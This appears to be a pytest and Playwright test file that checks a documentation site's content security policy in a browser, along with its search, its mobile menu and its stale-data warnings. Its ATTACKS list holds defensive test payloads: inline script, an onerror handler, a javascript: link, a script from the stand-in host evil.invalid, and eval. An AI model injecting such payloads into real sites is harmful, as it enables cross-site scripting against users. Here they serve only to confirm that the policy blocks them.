"""The content security policy holds in a browser, on every page, while a reader uses what there is."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, sync_playwright
from tests.browser.every_page import visit
from tests.browser.serving import CHROMIUM, headers_of, served, watched
from tests.support import small

from deploybook.cli import run
from deploybook.example import EXAMPLE_AS_OF, make_example

pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine"),
    pytest.mark.xdist_group("policy"),
]

ATTACKS = {
    "inline script": """const script = document.createElement("script");
        script.textContent = "window.ran = 1"; document.body.append(script)""",
    "handler": """document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='window.ran = 1'>")""",
    "javascript address": """const link = document.createElement("a"); link.href = "javascript:window.ran=1";
        document.body.append(link); link.click()""",
    "foreign script": """const script = document.createElement("script");
        script.src = "https://evil.invalid/x.js"; document.body.append(script)""",
    "style": """document.body.insertAdjacentHTML("beforeend", "<p style='--ran: 1' class=ran>x</p>");
        const found = getComputedStyle(document.querySelector(".ran")).getPropertyValue("--ran");
        window.ran = found || undefined""",
    "eval": """setTimeout(() => { try { eval("window.ran = 1") } catch {} })""",
}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("policy")
    small.make(root)
    assert small.build(root) == 0
    return root / "site"


@pytest.fixture(scope="module")
def example(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example organisation, made smaller: every kind of page, chart and table that there is."""
    config = make_example(tmp_path_factory.mktemp("acme") / "acme", codebases=2, years=1)
    assert run(["build", "--quiet", "--config", str(config), "--as-of", EXAMPLE_AS_OF.isoformat()]) == 0
    return config.parent / "site"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        yield playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])


def use(page: Page) -> None:
    """Search, change colours twice, open what folds, follow nothing."""
    page.keyboard.press("/")
    page.keyboard.type("shelf")
    page.locator(".md-search-result__link").first.wait_for(state="visible")
    page.keyboard.press("Escape")
    for _ in range(3):
        page.click(".db-palette__label:not([hidden])")
    page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")


@pytest.mark.parametrize("with_headers", [False, True], ids=["as a meta tag", "and as a server's header"])
def test_no_page_breaks_the_policy_asks_another_host_or_complains(
    site: Path, browser: Browser, with_headers: bool
) -> None:
    pages, complaints = visit(browser, site, with_headers=with_headers)
    assert (pages > 30, complaints) == (True, [])
    headers = headers_of(site) if with_headers else {}
    with served(site, headers) as root, watched(browser, root) as (context, complaints):
        page = context.new_page()
        page.goto(root)
        use(page)
        assert complaints == []


def test_no_page_of_the_example_does_so_either(example: Path, browser: Browser) -> None:
    pages, complaints = visit(browser, example, with_headers=True)
    assert (pages > 100, complaints) == (True, [])


def test_search_and_menu_of_a_phone_work_under_the_policy(site: Path, browser: Browser) -> None:
    with (
        served(site, headers_of(site)) as root,
        watched(browser, root, viewport={"width": 390, "height": 800}) as (context, complaints),
    ):
        page = context.new_page()
        page.goto(root)
        page.get_by_role("button", name="Menu").click()
        page.locator("#db-nav").wait_for(state="visible")
        page.keyboard.press("Escape")
        page.locator(".md-search__input").click()
        page.keyboard.type("shelf")
        page.locator(".md-search-result__link").first.wait_for(state="visible")
        assert complaints == []


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_what_slips_into_a_page_does_not_run(site: Path, browser: Browser, attack: str) -> None:
    """The policy of the page alone; each attack works on a page without it."""
    with served(site) as root:
        for strict in (True, False):
            context = browser.new_context(bypass_csp=not strict)
            page = context.new_page()
            page.route(
                "https://evil.invalid/*",
                lambda route: route.fulfill(body="window.ran = 1", content_type="text/javascript"),
            )
            page.goto(root)
            page.evaluate(attack)
            if strict:
                page.wait_for_timeout(300)
                assert page.evaluate("window.ran") is None
            else:
                page.wait_for_function("window.ran !== undefined")
            context.close()


def facts(hours: float, *, source: float | None = 0, **others: object) -> str:
    """What `data/build.json` says of a book this many hours old, of a source read so long before it."""
    at = datetime.now(UTC) - timedelta(hours=hours)
    read = None if source is None else (at - timedelta(hours=source)).isoformat()
    about: dict[str, object] = {"as_of": at.isoformat(), "timezone": "UTC", "stale_after_seconds": 36 * 3600}
    return json.dumps(about | {"sources": [{"name": "git:shop", "last_read": read}]} | others)


@pytest.mark.parametrize(
    ("said", "warns"),
    [
        (facts(1), None),
        (facts(40), "This book is 40 h old."),
        (facts(24 * 9), "This book is 9 days old."),
        (facts(1, source=40), "git:shop was last read"),
        (facts(1, source=None), "git:shop was never read"),
        (facts(40, simulated=True), None),
        (facts(40, stale_after_seconds=None), None),
        (facts(40, as_of="nonsense"), None),
    ],
    ids=[
        "fresh",
        "old",
        "very old",
        "a source behind",
        "a source never read",
        "simulated",
        "off",
        "unreadable",
    ],
)
def test_every_page_warns_by_the_clock_of_its_reader(
    site: Path, browser: Browser, said: str, warns: str | None
) -> None:
    with served(site) as root:
        page = browser.new_context().new_page()
        page.route(
            "**/data/build.json", lambda route: route.fulfill(body=said, content_type="application/json")
        )
        with page.expect_response("**/data/build.json"):
            page.goto(f"{root}hand/")
        note = page.locator("[data-db-stale]")
        if warns is None:
            page.wait_for_timeout(100)
            assert note.is_hidden()
        else:
            note.wait_for(state="visible")
            assert warns in str(note.text_content())
        page.context.close()
